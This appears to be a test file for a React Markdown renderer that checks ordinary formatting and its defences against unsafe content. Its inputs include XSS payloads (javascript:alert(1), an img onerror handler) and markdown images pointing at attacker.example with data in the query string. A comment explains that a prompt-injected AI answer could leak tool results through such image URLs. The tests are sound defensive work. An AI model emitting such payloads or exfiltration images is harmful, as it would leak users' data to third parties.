import { renderToStaticMarkup } from "react-dom/server";
import { Markdown } from "./markdown";

it("renders code fences with their language, headings, lists, quotes and tables", () => {
  const html = renderToStaticMarkup(
    <Markdown
      text={
        "# Title\n\nSome *text*\n\n- a\n- b\n\n```ts\nconst x = 1;\n```\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |"
      }
    />,
  );
  expect(html).toContain("<h3");
  expect(html).toContain("<em>text</em>");
  expect(html).toMatch(/<ul[^>]*>\s*<li>a<\/li>/);
  expect(html).toMatch(/<figcaption[^>]*><span>ts<\/span>/);
  expect(html).toContain('<code class="font-mono">const x = 1;</code>');
  expect(html).toContain("<blockquote");
  expect(html).toContain("<td");
});

it("renders inline markup as elements and never passes HTML or unsafe links through", () => {
  const html = renderToStaticMarkup(
    <Markdown text={"**bold** `code` [ok](/image-gen/x) [bad](javascript:alert(1)) <img src=x onerror=alert(1)>"} />,
  );
  expect(html).toContain("<strong>bold</strong>");
  expect(html).toContain("<code");
  expect(html).toContain('href="/image-gen/x"');
  expect(html).not.toContain("javascript:");
  expect(html).not.toContain("<img");
});

it("shows a Markdown image from model output as a link, never as an <img> the browser would fetch", () => {
  // A prompt-injected answer could put tool results into an image URL: an
  // <img> would send them to that host as soon as the answer renders.
  const html = renderToStaticMarkup(
    <Markdown
      text={
        "Done ![secret report](https://attacker.example/p.png?d=uid-123) and ![][ref]\n\n[ref]: https://attacker.example/r.gif?d=2"
      }
    />,
  );
  expect(html).not.toContain("<img");
  expect(html).toContain('href="https://attacker.example/p.png?d=uid-123"');
  expect(html).toContain('href="https://attacker.example/r.gif?d=2"');
  expect(html).toMatch(
    /<a [^>]*href="https:\/\/attacker\.example\/p\.png\?d=uid-123"[^>]*>[^<]*secret report[^<]*\(attacker\.example\)<\/a>/,
  );
});

it("drops an image whose address is not http(s) or an app path, keeping its description as text", () => {
  const html = renderToStaticMarkup(
    <Markdown text={"![chart](javascript:alert(1)) ![pixel](data:image/png;base64,AAAA)"} />,
  );
  expect(html).not.toContain("<img");
  expect(html).not.toContain("javascript:");
  expect(html).not.toContain("data:");
  expect(html).toContain("chart");
  expect(html).toContain("pixel");
});

it("survives an image address that only looks like a URL", () => {
  const html = renderToStaticMarkup(<Markdown text={"![broken](https://)"} />);
  expect(html).not.toContain("<img");
  expect(html).toContain("broken");
});
